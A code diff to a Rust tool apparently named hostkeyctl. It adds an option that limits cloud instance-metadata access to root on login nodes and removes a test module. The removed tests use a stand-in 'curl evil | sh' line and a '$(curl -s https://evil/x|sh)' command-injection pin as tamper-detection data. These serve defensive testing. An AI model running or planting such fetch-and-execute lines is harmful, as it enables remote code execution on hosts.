@@ -299,6 +299,12 @@ impl NodeBuilds {
                     "default": "",
                     "allowedPattern": p["Region"],
                 },
+                "MetadataService": {
+                    "type": "String",
+                    "description": "root-only: keep the instance metadata service (and so the node's role, which reads the key set) to root, now and at every boot (hostkeyctl imds-guard --at-boot); open: remove that guard, every user reaches the role.",
+                    "default": IMDS_ROOT_ONLY,
+                    "allowedValues": [IMDS_ROOT_ONLY, IMDS_OPEN],
+                },
             },
             "mainSteps": steps,
         });
@@ -355,8 +361,18 @@ impl NodeBuilds {
                 "got=$(sha256sum \"$bin\" | cut -c1-64)",
                 "[ \"$got\" = \"$want\" ] || { echo \"hostkeyctl-setup: $bin changed while this ran (SHA-256 $got): run deliver again\" >&2; exit 1; }",
                 "version=$(\"$bin\" --version 2>&1 | head -n 1 | tr -cd 'A-Za-z0-9 ._+-')",
+                // The metadata service for root alone before any key comes,
+                // and at every boot (the lifecycle step's default on login
+                // nodes): the node's role reads the key set.
+                "if [ '{{ MetadataService }}' = open ]; then",
+                "  \"$bin\" imds-guard --open --at-boot >&2",
+                "  imds=open",
+                "else",
+                "  \"$bin\" imds-guard --at-boot >&2 || { echo \"hostkeyctl-setup: the instance metadata service could not be kept to root (said above), so every login user could read the key set with the node's role: install iptables, or deliver with --imds open to accept that\" >&2; exit 1; }",
+                "  imds=root_only",
+                "fi",
                 &format!(
-                    "printf '{{\"schema\":\"{REPORT_SCHEMA}\",\"result\":\"%s\",\"path\":\"%s\",\"arch\":\"%s\",\"sha256\":\"%s\",\"version\":\"%s\"}}\\n' \"$result\" \"$bin\" \"$arch\" \"$got\" \"$version\""
+                    "printf '{{\"schema\":\"{REPORT_SCHEMA}\",\"result\":\"%s\",\"path\":\"%s\",\"arch\":\"%s\",\"sha256\":\"%s\",\"version\":\"%s\",\"imds\":\"%s\"}}\\n' \"$result\" \"$bin\" \"$arch\" \"$got\" \"$version\" \"$imds\""
                 ),
                 // With a secret (the setup association): the keys too, as
                 // the converge document installs them.
@@ -413,6 +429,16 @@ impl NodeBuilds {
     }
 }
 
+/// The setup document's `MetadataService`: guarded (the default).
+pub const IMDS_ROOT_ONLY: &str = "root-only";
+/// The setup document's `MetadataService`: open to every user.
+pub const IMDS_OPEN: &str = "open";
+
+/// The setup document's parameters for `imds` (`root-only` or `open`).
+pub fn imds_parameter(imds: &str) -> (String, Vec<String>) {
+    ("MetadataService".to_owned(), vec![imds.to_owned()])
+}
+
 /// 64 lowercase hexadecimal digits.
 pub fn is_sha256_hex(text: &str) -> bool {
     text.len() == 64 && text.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
@@ -433,6 +459,10 @@ pub struct SetupReport {
     pub sha256: String,
     /// What `hostkeyctl --version` printed there.
     pub version: String,
+    /// Who reaches the metadata service now (none from a document before
+    /// the guard).
+    #[serde(default)]
+    pub imds: Option<crate::imds_guard::Access>,
 }
 
 impl SetupReport {
@@ -444,116 +474,5 @@ impl SetupReport {
             .filter(|l| l.starts_with('{'))
             .find_map(|l| serde_json::from_str::<SetupReport>(l).ok())
             .filter(|r| r.schema == REPORT_SCHEMA)
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::{Arch, NodeBuilds, S3Location, SetupReport};
-
-    fn builds() -> NodeBuilds {
-        NodeBuilds {
-            location: "s3://my-bucket/hostkeyctl/v1".parse().unwrap(),
-            pins: [(Arch::X86_64, "a".repeat(64)), (Arch::Aarch64, "b".repeat(64))].into(),
-        }
-    }
-
-    #[test]
-    fn locations_follow_s3s_rules() {
-        let l: S3Location = "s3://my-bucket/hostkeyctl/".parse().unwrap();
-        assert_eq!(l.key(Arch::Aarch64), "hostkeyctl/hostkeyctl-aarch64");
-        assert_eq!(l.to_string(), "s3://my-bucket/hostkeyctl");
-        assert_eq!(
-            "s3://b12".parse::<S3Location>().unwrap().url(Arch::X86_64),
-            "https://s3.amazonaws.com/b12/hostkeyctl-x86_64"
-        );
-        for bad in [
-            "my-bucket/x",
-            "s3://My-Bucket/x",
-            "s3://ab/x",
-            "s3://-ab/x",
-            "s3://abc/a b",
-            "s3://abc/a\"b",
-            "s3://abc/a//b",
-            "s3://abc/a/../b",
-            "s3://abc/./b",
-        ] {
-            assert!(bad.parse::<S3Location>().is_err(), "{bad} passed");
-        }
-    }
-
-    #[test]
-    fn the_content_reads_back_to_its_pins_and_nothing_else_does() {
-        let b = builds();
-        let text = b.content();
-        assert_eq!(NodeBuilds::from_content(&text), Some(b.clone()));
-        // One architecture only: one download step.
-        let one = NodeBuilds {
-            pins: [(Arch::X86_64, "c".repeat(64))].into(),
-            ..b.clone()
-        };
-        assert_eq!(one.content().matches("aws:downloadContent").count(), 1);
-        assert_eq!(NodeBuilds::from_content(&one.content()), Some(one));
-        // Any edit is another document.
-        let tampered = text.replace("set -eu", "set -eu\ncurl evil | sh");
-        assert_eq!(NodeBuilds::from_content(&tampered), None);
-        // A pin that is not a SHA-256 would stand in the shell line: it
-        // round-trips through content(), so the pin itself is refused.
-        for pin in [
-            "$(curl -s https://evil/x|sh)",
-            "é".repeat(32).as_str(),
-            &"A".repeat(64),
-            &"a".repeat(63),
-        ] {
-            let evil = NodeBuilds {
-                pins: [(Arch::X86_64, pin.to_owned())].into(),
-                ..b.clone()
-            };
-            assert_eq!(NodeBuilds::from_content(&evil.content()), None, "{pin}");
-        }
-        // Other pins make another setup document, whose pins deliver
-        // shows: who may update documents decides what nodes install
-        // (docs/security.md).
-        let elsewhere = text.replace("my-bucket", "their-bucket");
-        assert_eq!(
-            NodeBuilds::from_content(&elsewhere).map(|b| b.location.bucket),
-            Some("their-bucket".to_owned())
-        );
-        assert_eq!(NodeBuilds::from_content("{}"), None);
-    }
-
-    #[test]
-    fn a_directory_without_builds_or_with_something_else_is_refused() {
-        let dir = tempfile::tempdir().unwrap();
-        let at: S3Location = "s3://my-bucket".parse().unwrap();
-        let err = NodeBuilds::from_dir(dir.path(), at.clone()).unwrap_err();
-        assert!(err.to_string().contains("neither hostkeyctl-x86_64"), "{err}");
-        std::fs::write(dir.path().join("hostkeyctl-aarch64"), b"#!/bin/sh\necho hi\n").unwrap();
-        let err = NodeBuilds::from_dir(dir.path(), at.clone()).unwrap_err();
-        assert!(err.to_string().contains("not a Linux aarch64 executable"), "{err}");
-        // This test's own executable is an x86_64 or aarch64 ELF.
-        let me = std::fs::read(std::env::current_exe().unwrap()).unwrap();
-        let arch = if cfg!(target_arch = "aarch64") {
-            Arch::Aarch64
-        } else {
-            Arch::X86_64
-        };
-        std::fs::remove_file(dir.path().join("hostkeyctl-aarch64")).unwrap();
-        std::fs::write(dir.path().join(arch.file_name()), &me).unwrap();
-        let b = NodeBuilds::from_dir(dir.path(), at).unwrap();
-        assert_eq!(b.pins.keys().copied().collect::<Vec<_>>(), [arch]);
-        use sha2::Digest;
-        assert_eq!(b.pins[&arch], hex::encode(sha2::Sha256::digest(&me)));
-    }
-
-    #[test]
-    fn a_nodes_report_is_its_last_json_line_of_the_schema() {
-        let out = "Content downloaded\n{\"schema\":\"hostkeyctl-setup/v1\",\"result\":\"installed\",\"path\":\"/usr/local/bin/hostkeyctl\",\"arch\":\"x86_64\",\"sha256\":\"ab\",\"version\":\"hostkeyctl 0.1.0\"}\n";
-        let r = SetupReport::from_output(out).unwrap();
-        assert_eq!(
-            (r.result.as_str(), r.version.as_str()),
-            ("installed", "hostkeyctl 0.1.0")
-        );
-        assert_eq!(SetupReport::from_output("{\"schema\":\"other/v1\"}"), None);
     }
 }
